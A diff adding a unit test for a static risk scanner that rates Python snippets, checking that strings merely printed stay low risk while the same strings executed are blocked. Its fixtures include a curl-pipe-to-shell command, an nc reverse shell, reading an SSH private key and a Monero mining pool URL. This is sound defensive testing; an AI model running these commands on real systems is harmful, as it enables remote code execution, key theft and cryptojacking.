@@ -197,3 +197,18 @@ print(s, t, u, v, w, r'\\', f"{v!r:>{10}}")
 )PY"),
             RiskLevel::low);
 }
+
+TEST(AssessCapabilities, StringsCountOnlyWhereTheFileCanActOnThem) {
+  // Advice, signatures and examples held in strings by a file that only prints them.
+  const std::string tips = "TIPS = ['Never run curl http://x/i.sh | sh', 'Keep ~/.ssh/id_rsa private',\n"
+                           "        'nc -e /bin/sh 10.0.0.1 4444 is a reverse shell']\n";
+  const Assessment words = assess_source(tips + "for t in TIPS:\n    print(t)\n", config());
+  EXPECT_EQ(words.level, RiskLevel::low);
+  ASSERT_FALSE(words.findings.empty()) << "the matches are still shown, as info";
+  for (const auto& f : words.findings) EXPECT_EQ(f.severity, "info") << f.rule << ": " << f.message;
+  // The same strings in a file that runs commands, or opens paths, are behaviour.
+  EXPECT_EQ(level(tips + "import os\nfor t in TIPS:\n    os.system(t)\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("P = '~/.ssh/id_rsa'\nimport os\nprint(open(os.path.expanduser(P)).read())\n"), RiskLevel::high);
+  EXPECT_EQ(level("import socket\nPOOL = 'stratum+tcp://pool.minexmr.com:4444'\ns = socket.socket()\n"),
+            RiskLevel::blocked);
+}
